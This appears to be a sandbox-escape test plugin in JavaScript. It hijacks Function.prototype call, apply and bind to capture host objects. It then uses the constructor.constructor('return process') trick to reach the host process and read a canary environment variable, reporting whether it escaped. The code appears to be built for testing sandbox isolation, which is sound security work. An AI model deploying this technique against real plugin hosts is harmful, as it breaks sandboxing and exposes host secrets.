// call, apply and bind replaced: whoever uses them hands over function and receiver.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const real = {};
    for (const name of ['call', 'apply', 'bind', Symbol.hasInstance]) {
      real[name] = Function.prototype[name];
      try {
        Object.defineProperty(Function.prototype, name, {
          configurable: true,
          writable: true,
          value: function (...given) {
            kept[kept.length] = this;
            kept[kept.length] = given[0];
            return Reflect.apply(real[name], this, given);
          },
        });
      } catch {}
    }
    try {
      ctx.log.info('a');
      await ctx.storage.set('k', [1]);
      require('./nothing');
    } catch (error) {
      kept[kept.length] = error;
    }
    for (const name of Reflect.ownKeys(real))
      try {
        Object.defineProperty(Function.prototype, name, { configurable: true, writable: true, value: real[name] });
      } catch {}
    for (const each of kept.slice(0, 500)) look(each);
    return { metadata: verdict() };
  },
};
